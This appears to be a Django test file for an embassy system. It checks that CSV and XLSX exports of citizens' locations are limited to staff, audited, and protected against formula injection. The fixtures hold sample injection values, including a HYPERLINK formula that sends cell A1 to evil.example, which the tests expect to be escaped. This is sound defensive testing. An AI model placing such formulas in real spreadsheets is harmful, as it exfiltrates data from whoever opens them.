"""Where citizens are — CSV and XLSX downloads of the list: authorised staff only, audited, and safe to open
in a spreadsheet (no formula injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from embassy.accounts.models import AuditEvent
from embassy.citizens.services import citizen_update, dependant_add, stay_register
from embassy.citizens.tests.factories import CitizenFactory, StayFactory
from embassy.citizens.where import export as where_export
from embassy.common import spreadsheet
from embassy.common.tests.factories import bearer, make_staff, staff_client
from embassy.missions.models import Role

pytestmark = pytest.mark.django_db
KL = "KBRI-KUALA-LUMPUR"
EVIL_EMPLOYER = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def people() -> None:
    ani = CitizenFactory.create(full_name="Ani Rahayu")
    citizen_update(citizen=ani, actor=None, data={"phone": "+60123456789", "email": "ani@example.com"})
    child = dependant_add(citizen=ani, actor=None, full_name="Dina", relationship="child")
    stay_register(citizen=ani, actor=None, lat=3.139, lon=101.6869, city="Kuala Lumpur", purpose="work",
                  occupation="domestic_worker", employer=EVIL_EMPLOYER, start_date=dt.date(2026, 1, 1),
                  dependants=[child.pk])
    mallory = CitizenFactory.create(full_name="@SUM(1+1)*cmd")
    stay_register(citizen=mallory, actor=None, lat=3.15, lon=101.7, city="-2+3", purpose="study",
                  start_date=dt.date(2026, 1, 1))
    StayFactory.create(citizen=CitizenFactory.create(full_name="Citra Jeddah"), lat=21.5433, lon=39.1728, purpose="work")


def test_formula_guard() -> None:
    assert [spreadsheet.safe_cell(v) for v in ("=1+1", "+1", "-1", "@A1", "\t=1", "Ani", "", 3, "+6281234567890")] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "Ani", "", 3, "+6281234567890"]


def test_csv_export_is_streamed_guarded_and_audited(people: None) -> None:
    officer = make_staff(KL, Role.CONSULAR_OFFICER)
    response = staff_client(officer).get("/konsol/sebaran/ekspor.csv", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].startswith("text/csv") and "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    assert rows[0][0] == "Name" and len(rows) == 3  # the header and the two stays of Kuala Lumpur
    by_name = {row[0]: row for row in rows[1:]}
    assert set(by_name) == {"Ani Rahayu", "'@SUM(1+1)*cmd"}
    ani = by_name["Ani Rahayu"]
    assert ani[1:5] == ["+60123456789", "ani@example.com", "Malaysia", "Kuala Lumpur"]
    assert ani[7] == "'" + EVIL_EMPLOYER and ani[8] == KL and ani[9] == "1"
    assert by_name["'@SUM(1+1)*cmd"][4] == "'-2+3"
    event = AuditEvent.objects.get(actor=officer, action="citizens.where.export")
    assert event.mission_code == KL and event.detail["format"] == "csv" and event.detail["rows"] == 2


def test_xlsx_export_reads_back_with_the_same_cells(client: Client, people: None) -> None:
    analyst = make_staff("HQ-PWNI", Role.PROTECTION_ANALYST)
    response = client.get("/api/v1/staff/where/export.xlsx?purpose=work", headers=bearer(analyst))
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == spreadsheet.XLSX_TYPE
    sheet = load_workbook(io.BytesIO(response.getvalue()), read_only=True).worksheets[0]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert len(rows) == 3
    assert [row[0] for row in rows[1:]] == ["Ani Rahayu", "Citra Jeddah"]
    assert rows[1][7] == "'" + EVIL_EMPLOYER and rows[1][9] == 1 and rows[1][1] == "+60123456789"
    assert rows[2][8] == "KJRI-JEDDAH"
    event = AuditEvent.objects.get(actor=analyst, action="citizens.where.export")
    assert event.detail == {"purpose": "work", "format": "xlsx", "rows": 2}


def test_a_spreadsheet_too_large_is_refused_with_a_clear_message_but_csv_streams(
        client: Client, people: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(where_export, "XLSX_MAX_ROWS", 2)
    admin = make_staff("HQ-PWNI", Role.ADMINISTRATOR)
    api = bearer(admin)
    refused = client.get("/api/v1/staff/where/export.xlsx", headers=api)
    assert refused.status_code == 422 and "CSV" in refused.json()["detail"]
    assert not AuditEvent.objects.filter(action="citizens.where.export").exists()  # nothing was read
    assert client.get("/api/v1/staff/where/export.csv", headers=api).status_code == 200
    assert staff_client(admin).get("/konsol/sebaran/ekspor.pdf").status_code == 422
